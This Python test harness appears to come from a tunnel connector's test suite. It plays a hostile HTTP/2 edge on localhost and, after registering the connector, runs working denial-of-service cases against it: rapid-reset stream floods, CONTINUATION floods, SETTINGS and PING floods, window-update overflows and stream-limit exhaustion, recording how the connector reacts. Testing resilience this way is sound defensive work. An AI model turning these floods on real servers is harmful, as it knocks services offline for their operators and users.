#!/usr/bin/env python3
"""h2_fake_edge.py — a hostile edge that abuses HTTP/2 against a real connector (stdlib only).

    h2_fake_edge.py CERT KEY PORT ORIGIN_PORT PIDFILE CASE...

Listens on 127.0.0.1:PORT with TLS (CERT/KEY, ALPN h2). For each CASE it takes the next connection
of the connector (which redials after every loss), registers it the way the edge does (POST
/burrow/v1/register on stream 1, the result on stream 3), checks that a CONNECT to
count.site.test reaches the origin (a counting listener on ORIGIN_PORT that the connector's
ingress rule for count.site.test names: it sends an SSH banner and closes), then attacks:

    rapid-reset         10,000 CONNECT streams, each reset (RST_STREAM CANCEL) in the same write
    max-concurrent      the connector's SETTINGS_MAX_CONCURRENT_STREAMS + 100 streams left open
    continuation-flood  HEADERS without END_HEADERS, then up to 10,000 1 KiB CONTINUATION frames
    settings-flood      100,000 SETTINGS frames, the answers never read (ACKs pile up)
    settings-many       one SETTINGS frame with 500 entries
    ping-flood          100,000 PINGs, the answers never read
    window-stream       WINDOW_UPDATE +2^31-1 on an open CONNECT stream (its window overflows)
    window-conn         WINDOW_UPDATE +2^31-1 on the connection (its window overflows)
    data-unopened       DATA on a stream id nobody opened (idle)
    data-closed         DATA on stream 1, closed long ago

and prints one line per case:

    CASE outcome=goaway:CODE|closed|open|stuck after=S sent=N dials=N [more=...] rss=KiB hwm=KiB cpu=S

outcome: what the connector did with the connection (GOAWAY with that error code, a close without
GOAWAY, or kept it and still answers a PING ("open"); "stuck": neither closed nor answering).
after: seconds from the first attack frame to that GOAWAY/close. sent: attack frames written.
dials: origin connections made from the start of the attack until 2 s after it. rss/hwm/cpu: the
connector's (pid in PIDFILE) VmRSS, VmHWM and CPU seconds after the case. "setup ..." lines and
exit status 1 say the fake edge itself could not run a case.
"""
import json
import socket
import sys
import time

from h2raw import (CONTINUATION, DATA, E_CANCEL, END_HEADERS, END_STREAM, HEADERS, PREFACE,
                   S_ENABLE_PUSH, S_HEADER_TABLE_SIZE, S_MAX_CONCURRENT_STREAMS, Conn, CountingListener,
                   cpu_s, err_name,
                   frame, hpack, pid_from, rss_kib, rst_frame, server_ctx, settings_frame, ping_frame,
                   window_update_frame)


def out(line):
    print(line, flush=True)


CONNECT = hpack([(":method", "CONNECT"), (":authority", "count.site.test"), ("burrow-kind", "tcp")])


class Session:
    def __init__(self, ls, ctx):
        ls.settimeout(20)
        raw, _ = ls.accept()
        raw.settimeout(10)
        s = ctx.wrap_socket(raw, server_side=True)
        if s.selected_alpn_protocol() != "h2":
            raise RuntimeError("the connector did not negotiate h2")
        self.c = Conn(s, server=False)
        self.sid = 1

    def next_sid(self):
        sid = self.sid
        self.sid += 2
        return sid

    def register(self):
        c = self.c
        c.raw(PREFACE)
        c.raw(settings_frame([(S_HEADER_TABLE_SIZE, 0), (S_ENABLE_PUSH, 0)]))
        sid = self.next_sid()
        c.send(HEADERS, END_HEADERS | END_STREAM, sid, hpack([(":method", "POST"), (":scheme", "https"),
               (":authority", "burrow-edge"), (":path", "/burrow/v1/register")]))
        if not c.pump(lambda: sid in c.ended or sid in c.rst, 10) or c.status.get(sid) != 200:
            raise RuntimeError("no registration answer (status %s)" % c.status.get(sid))
        reg = json.loads(c.data.get(sid) or b"{}")
        if "count.site.test" not in reg.get("hostnames", []):
            raise RuntimeError("the connector does not serve count.site.test: %s" % reg.get("hostnames"))
        sid = self.next_sid()
        c.send(HEADERS, END_HEADERS, sid, hpack([(":method", "POST"), (":scheme", "https"),
               (":authority", "burrow-edge"), (":path", "/burrow/v1/registered"),
               ("content-type", "application/json")]))
        c.send(DATA, END_STREAM, sid, json.dumps({"ok": True, "tunnel_name": "fake", "conn_index": 0}).encode())
        if not c.pump(lambda: sid in c.ended or sid in c.rst, 10):
            raise RuntimeError("no answer to the registration result")
        if not c.pump(lambda: S_MAX_CONCURRENT_STREAMS in c.peer_settings, 5):
            raise RuntimeError("the connector sent no SETTINGS_MAX_CONCURRENT_STREAMS")
        # control: a CONNECT reaches the origin
        sid = self.connect()
        if sid is None:
            raise RuntimeError("control CONNECT to count.site.test failed")
        c.raw(rst_frame(sid, E_CANCEL))
        c.pump(None, 2)

    def connect(self, timeout=5):
        """A CONNECT to count.site.test; its stream id once 200 and the banner came, else None."""
        c = self.c
        sid = self.next_sid()
        c.send(HEADERS, END_HEADERS, sid, CONNECT)
        ok = c.pump(lambda: b"SSH-" in c.data.get(sid, b"") or sid in c.rst or
                    c.status.get(sid, 200) != 200, timeout)
        return sid if ok and c.status.get(sid) == 200 else None


# ---------------------------------------------------------------- cases


def case_rapid_reset(x):
    c = x.c
    first = x.sid
    pair = lambda i: frame(HEADERS, END_HEADERS, first + 2 * i, CONNECT) + rst_frame(first + 2 * i, E_CANCEL)
    # the attacker goes on after a GOAWAY: only a close stops it
    sent = c.flood(pair, 10000, batch=100, stop=c.gone)
    x.sid = first + 2 * sent
    processed = ""
    if c.goaway is not None:
        processed = " processed=%d" % ((c.goaway[0] - first) // 2 + 1 if c.goaway[0] >= first else 0)
    return sent, processed


def case_max_concurrent(x):
    c = x.c
    limit = c.peer_settings.get(S_MAX_CONCURRENT_STREAMS)
    n = min(limit, 50000) + 100
    first = x.sid
    req = hpack([(":method", "GET"), (":scheme", "https"), (":authority", "count.site.test"), (":path", "/x")])
    sent = c.flood(lambda i: frame(HEADERS, END_HEADERS, first + 2 * i, req), n, batch=500, stop=c.gone)
    x.sid = first + 2 * sent
    c.pump(lambda: c.gone() or c.goaway is not None or (first + 2 * (n - 1)) in c.rst, 10)
    answered = sum(1 for i in range(sent) if first + 2 * i in c.status)
    refused = sum(1 for i in range(sent) if first + 2 * i in c.rst)
    return sent, " limit=%d answered=%d refused=%d" % (limit, answered, refused)


def case_continuation_flood(x):
    c = x.c
    sid = x.next_sid()
    c.send(HEADERS, 0, sid, CONNECT)  # no END_HEADERS: the block never ends
    pad = hpack([("x-pad", "a" * 1000)])
    sent = c.flood(lambda i: frame(CONTINUATION, 0, sid, pad), 10000, batch=50)
    return sent + 1, ""


def _unread_flood(x, make, n):
    c = x.c
    c.read_paused = True
    sent = c.flood(make, n, batch=2000, timeout=10, stop=c.gone)
    c.read_paused = False
    return sent, ""


def case_settings_flood(x):
    return _unread_flood(x, lambda i: settings_frame(), 100000)


def case_ping_flood(x):
    return _unread_flood(x, lambda i: ping_frame(b"%08d" % (i % 100000000)), 100000)


def case_settings_many(x):
    x.c.raw(settings_frame([(0x100 + i, i) for i in range(500)]))
    return 1, ""


def case_window_stream(x):
    c = x.c
    sid = x.connect()
    if sid is None:
        raise RuntimeError("CONNECT for the window case failed")
    c.raw(window_update_frame(sid, 0x7FFFFFFF))
    c.pump(lambda: sid in c.rst or c.closed_or_goaway(), 3)
    return 1, " stream=%s" % ("rst:" + err_name(c.rst[sid]) if sid in c.rst else "kept")


def case_window_conn(x):
    x.c.raw(window_update_frame(0, 0x7FFFFFFF))
    return 1, ""


def case_data_unopened(x):
    x.c.send(DATA, 0, x.sid + 1000, b"x" * 100)
    return 1, ""


def case_data_closed(x):
    x.c.send(DATA, 0, 1, b"x" * 100)
    return 1, ""


CASES = {
    "rapid-reset": case_rapid_reset,
    "max-concurrent": case_max_concurrent,
    "continuation-flood": case_continuation_flood,
    "settings-flood": case_settings_flood,
    "settings-many": case_settings_many,
    "ping-flood": case_ping_flood,
    "window-stream": case_window_stream,
    "window-conn": case_window_conn,
    "data-unopened": case_data_unopened,
    "data-closed": case_data_closed,
}


def main():
    cert, key, port, origin_port, pidfile = sys.argv[1:6]
    names = sys.argv[6:]
    for n in names:
        if n not in CASES:
            raise SystemExit("unknown case " + n)
    origin = CountingListener(int(origin_port), greeting=b"SSH-2.0-count-origin\r\n")
    ctx = server_ctx(cert, key)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", int(port)))
    ls.listen(16)
    out("listening")
    for name in names:
        try:
            x = Session(ls, ctx)
            x.register()
        except (OSError, RuntimeError, ValueError, EOFError) as e:
            out("setup %s: %s" % (name, e))
            sys.exit(1)
        c = x.c
        pid = pid_from(pidfile)
        rss0, _ = rss_kib(pid)
        d0 = origin.dials
        t0 = time.monotonic()
        sent, more = CASES[name](x)
        outcome, after, note = c.verdict(t0)
        more += note
        if name in ("rapid-reset", "max-concurrent"):
            time.sleep(2)  # resolver and dial completions of streams already reset
        dials = origin.dials - d0
        rss, hwm = rss_kib(pid)
        out("%s outcome=%s after=%.2fs sent=%d dials=%d%s rss0=%d rss=%d hwm=%d cpu=%.2f" %
            (name, outcome, after, sent, dials, more, rss0, rss, hwm, cpu_s(pid)))
        c.close()
    ls.close()
    out("done")


if __name__ == "__main__":
    main()
